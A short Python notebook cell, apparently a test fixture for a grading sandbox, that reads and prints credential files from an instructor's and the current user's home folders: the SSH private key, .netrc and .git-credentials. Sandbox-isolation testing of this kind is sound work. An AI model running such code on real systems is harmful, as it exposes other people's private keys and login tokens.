# Reads keys in the instructor's home folder.
# %% first
import os
from pathlib import Path

for home in ("@HOME@", os.path.expanduser("~")):
    for name in (".key", ".ssh/id_rsa", ".netrc", ".git-credentials"):
        try:
            print(Path(home, name).read_text())
        except OSError:
            pass
